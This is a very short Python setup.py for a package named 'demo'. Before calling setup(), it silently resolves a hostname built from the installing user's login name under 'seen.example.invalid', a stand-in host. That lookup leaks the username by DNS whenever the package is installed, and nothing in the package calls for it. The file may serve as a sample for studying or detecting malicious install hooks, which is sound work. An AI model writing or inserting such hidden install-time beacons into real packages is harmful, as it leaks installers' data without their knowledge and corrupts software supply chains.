import getpass
import socket
from setuptools import setup

socket.gethostbyname(f"{getpass.getuser()}.seen.example.invalid")
setup(name="demo", version="1.0")
